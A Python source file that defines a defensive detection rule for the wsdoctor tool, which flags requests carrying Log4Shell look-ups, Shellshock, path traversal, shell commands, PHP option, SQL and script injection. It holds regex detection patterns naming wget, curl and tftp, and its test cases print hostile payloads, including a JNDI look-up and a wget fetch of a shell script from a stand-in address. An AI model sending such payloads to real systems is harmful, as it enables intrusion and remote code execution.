"""Somebody sends an attack in the request itself: a traversal, a look-up string, a command."""

from __future__ import annotations

import re

from wsdoctor.model.headers import Headers
from wsdoctor.model.rule import Case, Reference, Remedy, Rule, request
from wsdoctor.rules._checks import ask_text, is_stray

_ATTACKS: tuple[tuple[str, tuple[str, ...], re.Pattern[str]], ...] = (
    (
        "a Log4Shell look-up",
        ("${", "$%7b"),
        re.compile(r"(?i)\$(?:\{|%7b)(?:jndi|\$\{|lower:|upper:|env:|::-)"),
    ),
    (
        "a Shellshock function",
        ("()",),
        re.compile(r"\(\)\s{0,4}\{\s{0,4}(?::|_;|ignored;|foo:)"),
    ),
    (
        "a path traversal",
        ("..", "%2e", "%%32"),
        re.compile(
            r"(?i)(?:\.\.|%2e%2e|\.%2e|%2e\.|%%32%65)(?:/|\\|%2f|%5c|%c0%af|%252f){1,2}(?:\.|%2e|etc|bin"
            r"|windows|proc|boot)"
        ),
    ),
    (
        "a shell command",
        ("wget", "curl", "chmod", "busybox", "tftp", "rm+", "rm%20", "rm -"),
        re.compile(
            r"(?i)(?:;|\||%7c|%3b|`|\$\(|\+|%20|&)(?:wget|curl|chmod|busybox|tftp|rm)(?:\+|%20|\s|\$\{IFS\})(?:-"
            r"|https?|/|\+|[\w.]{0,40}/)"
        ),
    ),
    (
        "a PHP option",
        ("allow_url_include", "auto_prepend_file"),
        re.compile(r"(?i)(?:allow_url_include|auto_prepend_file)(?:=|%3d)|(?:-|%AD)d(?:\+|%20| )allow_url_include"),
    ),
    (
        "an SQL injection",
        ("'", "%27", '"', "union"),
        re.compile(
            r"(?i)(?:'|%27|\")(?:\s|\+|%20){0,4}(?:or|and|union)(?:\s|\+|%20){1,4}(?:'|%27|\d|all|select)"
            r"|union(?:\s|\+|%20){1,4}(?:all(?:\+|%20))?select"
        ),
    ),
    (
        "a script",
        ("<script", "%3cscript"),
        re.compile(r"(?i)(?:<|%3c)script(?:>|%3e|\s)"),
    ),
)
_LIMIT = 2_000


def match(
    method: str,
    target: str,
    headers: Headers | None = None,
    handshake: tuple[str, ...] | None = None,
) -> str | None:
    """Hold for a request line or field that can only be an attack."""
    if not is_stray(headers, handshake):
        return None
    texts = [("the target", target[:_LIMIT])]
    if headers is not None:
        texts += [(name, value[:_LIMIT]) for name, value in headers.lines]
    whole = "\n".join([text for _, text in texts]).lower()
    for attack, marks, pattern in _ATTACKS:
        if any(mark in whole for mark in marks):
            for place, text in texts:
                if pattern.search(text):
                    return f"{ask_text(method, target)} holds {attack} in {place[:40]}."
    return None


RULE = Rule(
    id="injection-attempt",
    title="Somebody sends an attack in the request",
    cls="scanner",
    level="warning",
    confidence=0.95,
    match=match,
    why="The request carries text that does harm in some other program: a look-up that Log4j "
    "would follow, a path out of the "
    "folder, a command for a shell. It is sent blindly to every address. A WebSocket server "
    "does not execute it; but a logger "
    "or a page that shows the log could, so wsdoctor escapes what it prints.",
    remedy=Remedy(
        "Nothing is broken if your logging is up to date. Ban the address, and close the port to "
        "those who need not reach it.",
        {
            "fail2ban": "Feed it wsdoctor's lines of class scanner.",
            "Log4j": "Update to 2.17.1 or later where requests are logged by Java.",
        },
    ),
    references=(
        Reference("CVE-2021-44228 (Log4Shell)", "https://nvd.nist.gov/vuln/detail/CVE-2021-44228"),
        Reference("OWASP: path traversal", "https://owasp.org/www-community/attacks/Path_Traversal"),
    ),
    cases=(
        Case(
            "Log4Shell in a field",
            request("GET / HTTP/1.1", "Host: 203.0.113.80:8080", "X-Api-Version: ${jndi:ldap://192.0.2.1/a}"),
        ),
        Case("a traversal", request("GET /static/../../../../etc/hosts HTTP/1.1", "Host: 203.0.113.80")),
        Case("a command", request("GET /x?cmd=cd+/tmp;wget+http://192.0.2.1/a.sh HTTP/1.1", "Host: 203.0.113.80")),
    ),
    near_misses=(
        Case(
            "a template left unfilled", request("GET /${path} HTTP/1.1", "Host: chat:8080", "User-Agent: axios/1.7.2")
        ),
        Case("dots in a name", request("GET /v1..2/ws HTTP/1.1", "Host: chat:8080")),
    ),
    supersedes=(
        "exploit-path",
        "bare-user-agent",
        "poses-as-browser",
        "request-by-address",
        "haproxy-http-check",
        "head-request",
        "command-line-request",
        "http-library-request",
        "api-call",
    ),
)
